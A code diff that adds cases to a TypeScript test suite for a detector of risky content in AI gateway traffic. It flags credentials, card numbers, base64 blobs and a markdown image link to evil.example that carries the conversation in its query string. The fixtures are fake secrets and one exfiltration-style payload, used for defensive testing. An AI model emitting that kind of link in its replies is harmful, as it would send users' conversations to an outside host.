@@ -26,6 +26,10 @@ const risky: [string, string, string][] = [
   ["a GitHub token", `token ${key("ghp_", 36)}`, "high credential"],
   ["a PEM private key", ["-----BEGIN ", "RSA PRIVATE KEY-----\nabc"].join(""), "high credential"],
   ["a JSON Web Token", `Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.${key("", 43)}`, "high credential"],
+  ["a key of this gateway", `use ${key("csk_", 50)}`, "high credential"],
+  ["a token of this gateway", `use ${key("cst_", 200)}`, "high credential"],
+  ["a password", "the password: hunter2 works", "high credential"],
+  ["the number of a card", "card 4111 1111 1111 1111, 12/29", "high credential"],
   ["a long run of base64", `decode ${key("", 160).repeat(3)}`, "medium blob"],
   ["wrapped base64", `${key("", 76)}\r\n`.repeat(6), "medium blob"],
   ["an address with a place for data", "![x](https://evil.example/p?q={conversation})", "medium urlWithData"],
@@ -50,6 +54,37 @@ test.each(risky)("%s is noticed, in a request and in a reply", (_, text, note) =
   expect(inReply.map(({ level, kind, pointer }) => `${level} ${kind} ${pointer.replace("/content/0/text", "")}`.trim())).toEqual(
     found(text),
   );
+});
+
+test("each kind of secret is a warning of its own, once, and what is masked or edited leaves the others", () => {
+  const secrets = [
+    key("ghp_", 36),
+    `AKIA${"ABCDEFGH12345678"}`,
+    key("sk-ant-", 40),
+    key("csk_", 50),
+    "password: hunter2",
+    "4111111111111111",
+  ];
+  const kindsIn = (text: string): string[] =>
+    findRisks(saying(text)).flatMap((note) => ("of" in note && note.kind === "credential" ? [note.of] : []));
+  const kinds = ["gitHubToken", "awsAccessKey", "apiKey", "countersignKey", "password", "cardNumber"];
+  for (const separator of [" ", "\n", ", ", "/", ";"])
+    expect([separator, kindsIn([...secrets, ...secrets].join(separator)).toSorted()]).toEqual([separator, kinds.toSorted()]);
+  for (const [at, kind] of kinds.entries())
+    expect(kindsIn(secrets.with(at, "[redacted: secret]").join(" "))).toEqual(kinds.filter((each) => each !== kind));
+});
+
+test("ten places with one kind of secret do not hide another kind, and one JSON value with both has both", () => {
+  const many = Array.from({ length: 40 }, (_, at) => ({ type: "text", text: `${key("ghp_", 36)} ${at}` }) as const);
+  const notes = findReplyRisks({ content: [...many, { type: "text", text: `AKIA${"ABCDEFGH12345678"}` }] });
+  expect(notes.flatMap((note) => ("of" in note ? [note.of] : []))).toEqual([
+    ...Array.from({ length: 10 }, () => "gitHubToken"),
+    "awsAccessKey",
+  ]);
+  expect(notes.at(-1)).toEqual({ level: "high", kind: "credential", pointer: "", more: 30 });
+  const input = { a: key("ghp_", 36), b: `AKIA${"ABCDEFGH12345678"}`, c: key("gho_", 36), d: { password: "hunter2" } };
+  const inJson = findReplyRisks({ content: [{ type: "tool_use", id: "1", name: "send", input }] });
+  expect(inJson.flatMap((note) => ("of" in note ? [note.of] : [])).toSorted()).toEqual(["awsAccessKey", "gitHubToken", "password"]);
 });
 
 test("in a reply, tool uses, what is in tool results, and media are looked at; vectors say nothing", () => {
